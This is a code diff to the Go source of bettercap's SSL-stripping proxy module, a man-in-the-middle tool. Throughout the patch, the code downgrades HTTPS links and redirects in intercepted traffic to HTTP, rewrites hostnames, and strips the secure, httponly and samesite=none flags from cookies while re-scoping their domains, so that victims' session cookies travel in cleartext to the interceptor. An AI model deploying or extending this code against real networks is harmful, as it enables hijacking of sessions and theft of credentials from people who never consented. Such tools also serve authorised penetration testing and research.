@@ -1,12 +1,14 @@
 package http_proxy
 
 import (
+	"fmt"
 	"io/ioutil"
 	"net/http"
 	"net/url"
 	"regexp"
 	"strconv"
 	"strings"
+	"sync"
 
 	"github.com/bettercap/bettercap/log"
 	"github.com/bettercap/bettercap/modules/dns_spoof"
@@ -20,13 +22,13 @@ import (
 
 	"github.com/evilsocket/islazy/tui"
 
-	"golang.org/x/net/idna"
+	"github.com/jpillora/go-tld"
 )
 
 var (
 	httpsLinksParser   = regexp.MustCompile(`https://[^"'/]+`)
-	domainCookieParser = regexp.MustCompile(`; ?(?i)domain=.*(;|$)`)
-	flagsCookieParser  = regexp.MustCompile(`; ?(?i)(secure|httponly)`)
+	domainCookieParser = regexp.MustCompile(`(?i); ?domain=\.?([^;]*)`)
+	flagsCookieParser  = regexp.MustCompile(`; ?(?i)(secure|httponly|samesite=none)`)
 )
 
 type SSLStripper struct {
@@ -34,17 +36,23 @@ type SSLStripper struct {
 	session       *session.Session
 	cookies       *CookieTracker
 	hosts         *HostTracker
+	rules         []StripRule
+	exceptions    []string
+	rulesLock     *sync.RWMutex
 	handle        *pcap.Handle
 	pktSourceChan chan gopacket.Packet
 }
 
 func NewSSLStripper(s *session.Session, enabled bool) *SSLStripper {
 	strip := &SSLStripper{
-		enabled: false,
-		cookies: NewCookieTracker(),
-		hosts:   NewHostTracker(),
-		session: s,
-		handle:  nil,
+		enabled:    false,
+		cookies:    NewCookieTracker(),
+		hosts:      NewHostTracker(),
+		rules:      make([]StripRule, 0),
+		exceptions: make([]string, 0),
+		rulesLock:  &sync.RWMutex{},
+		session:    s,
+		handle:     nil,
 	}
 	strip.Enable(enabled)
 	return strip
@@ -125,8 +133,27 @@ func (s *SSLStripper) isContentStrippable(res *http.Response) bool {
 	return false
 }
 
-func (s *SSLStripper) stripURL(url string) string {
-	return strings.Replace(url, "https://", "http://", 1)
+// stripURL returns the HTTP version of an HTTPS url, with its hostname
+// rewritten by the rules.
+func (s *SSLStripper) stripURL(u string) string {
+	parsed, err := url.Parse(u)
+	if err != nil || parsed.Hostname() == "" {
+		return strings.Replace(u, "https://", "http://", 1)
+	}
+
+	parsed.Scheme = "http"
+	parsed.Host = s.stripHost(parsed.Hostname())
+	return parsed.String()
+}
+
+// registrableDomain returns the domain cookies can be scoped to at most.
+func registrableDomain(host string) string {
+	if parsed, err := tld.Parse("http://" + host); err == nil && parsed.Domain != "" {
+		return fmt.Sprintf("%s.%s", parsed.Domain, parsed.TLD)
+	} else if parts := strings.Split(host, "."); len(parts) > 1 {
+		return strings.Join(parts[len(parts)-2:], ".")
+	}
+	return host
 }
 
 // sslstrip preprocessing, takes care of:
@@ -159,29 +186,36 @@ func (s *SSLStripper) Preprocess(req *http.Request, ctx *goproxy.ProxyCtx) (redi
 	return
 }
 
+// fixCookie strips the flags that would prevent the browser from sending
+// the cookie over HTTP and moves its scope to the stripped host.
+func (s *SSLStripper) fixCookie(cookie string, origDomain string, strippedHost string) string {
+	if m := domainCookieParser.FindStringSubmatchIndex(cookie); m != nil {
+		scope := strings.ToLower(cookie[m[2]:m[3]])
+		if scope == origDomain {
+			// scoped to the whole site, keep it that way
+			cookie = cookie[:m[0]] + "; domain=" + registrableDomain(strippedHost) + cookie[m[1]:]
+		} else {
+			// scoped to a subdomain, which has been rewritten too
+			cookie = cookie[:m[0]] + cookie[m[1]:]
+		}
+	}
+	return flagsCookieParser.ReplaceAllString(cookie, "")
+}
+
 func (s *SSLStripper) fixCookies(res *http.Response) {
 	origHost := res.Request.URL.Hostname()
 	strippedHost := s.hosts.Strip(origHost)
 
-	if strippedHost != nil && strippedHost.Hostname != origHost && res.Header["Set-Cookie"] != nil {
-		// get domains from hostnames
-		if origParts, strippedParts := strings.Split(origHost, "."), strings.Split(strippedHost.Hostname, "."); len(origParts) > 1 && len(strippedParts) > 1 {
-			origDomain := origParts[len(origParts)-2] + "." + origParts[len(origParts)-1]
-			strippedDomain := strippedParts[len(strippedParts)-2] + "." + strippedParts[len(strippedParts)-1]
-
-			log.Info("[%s] Fixing cookies on %s", tui.Green("sslstrip"), tui.Bold(strippedHost.Hostname))
-			cookies := make([]string, len(res.Header["Set-Cookie"]))
-			// replace domain and strip "secure" flag for each cookie
-			for i, cookie := range res.Header["Set-Cookie"] {
-				domainIndex := domainCookieParser.FindStringIndex(cookie)
-				if domainIndex != nil {
-					cookie = cookie[:domainIndex[0]] + strings.Replace(cookie[domainIndex[0]:domainIndex[1]], origDomain, strippedDomain, 1) + cookie[domainIndex[1]:]
-				}
-				cookies[i] = flagsCookieParser.ReplaceAllString(cookie, "")
-			}
-			res.Header["Set-Cookie"] = cookies
-			s.cookies.Track(res.Request)
+	if strippedHost != nil && res.Header["Set-Cookie"] != nil {
+		origDomain := registrableDomain(origHost)
+
+		log.Info("[%s] Fixing cookies on %s", tui.Green("sslstrip"), tui.Bold(strippedHost.Hostname))
+		cookies := make([]string, len(res.Header["Set-Cookie"]))
+		for i, cookie := range res.Header["Set-Cookie"] {
+			cookies[i] = s.fixCookie(cookie, origDomain, strippedHost.Hostname)
 		}
+		res.Header["Set-Cookie"] = cookies
+		s.cookies.Track(res.Request)
 	}
 }
 
@@ -222,16 +256,16 @@ func (s *SSLStripper) Process(res *http.Response, ctx *goproxy.ProxyCtx) {
 			newURL := location.String()
 
 			// are we getting redirected from http to https?
-			if orig.Scheme == "http" && location.Scheme == "https" {
+			if orig.Scheme == "http" && location.Scheme == "https" && s.isException(location.Hostname()) {
+				log.Debug("[%s] Not stripping redirection to %s", tui.Green("sslstrip"), tui.Bold(newURL))
+			} else if orig.Scheme == "http" && location.Scheme == "https" {
 
 				log.Info("[%s] Got redirection from HTTP to HTTPS: %s -> %s", tui.Green("sslstrip"), tui.Yellow("http://"+origHost), tui.Bold("https://"+newHost))
 
-				// strip the URL down to an alternative HTTP version and save it to an ASCII Internationalized Domain Name
+				// strip the URL down to an alternative HTTP version, with an ASCII Internationalized Domain Name
 				strippedURL := s.stripURL(newURL)
 				parsed, _ := url.Parse(strippedURL)
-				hostStripped := parsed.Hostname()
-				hostStripped, _ = idna.ToASCII(hostStripped)
-				s.hosts.Track(newHost, hostStripped)
+				s.hosts.Track(location.Hostname(), parsed.Hostname())
 
 				res.Header.Set("Location", strippedURL)
 			}
@@ -252,7 +286,7 @@ func (s *SSLStripper) Process(res *http.Response, ctx *goproxy.ProxyCtx) {
 		matches := httpsLinksParser.FindAllString(body, -1)
 		for _, u := range matches {
 			// make sure we only strip valid URLs
-			if parsed, _ := url.Parse(u); parsed != nil {
+			if parsed, _ := url.Parse(u); parsed != nil && !s.isException(parsed.Hostname()) {
 				// strip the URL down to an alternative HTTP version
 				urls[u] = s.stripURL(u)
 			}
@@ -272,13 +306,11 @@ func (s *SSLStripper) Process(res *http.Response, ctx *goproxy.ProxyCtx) {
 
 			body = strings.Replace(body, u, stripped, -1)
 
-			// save stripped host to an ASCII Internationalized Domain Name
+			// save stripped host, already an ASCII Internationalized Domain Name
 			parsed, _ := url.Parse(u)
 			hostOriginal := parsed.Hostname()
 			parsed, _ = url.Parse(stripped)
-			hostStripped := parsed.Hostname()
-			hostStripped, _ = idna.ToASCII(hostStripped)
-			s.hosts.Track(hostOriginal, hostStripped)
+			s.hosts.Track(hostOriginal, parsed.Hostname())
 		}
 
 		res.Header.Set("Content-Length", strconv.Itoa(len(body)))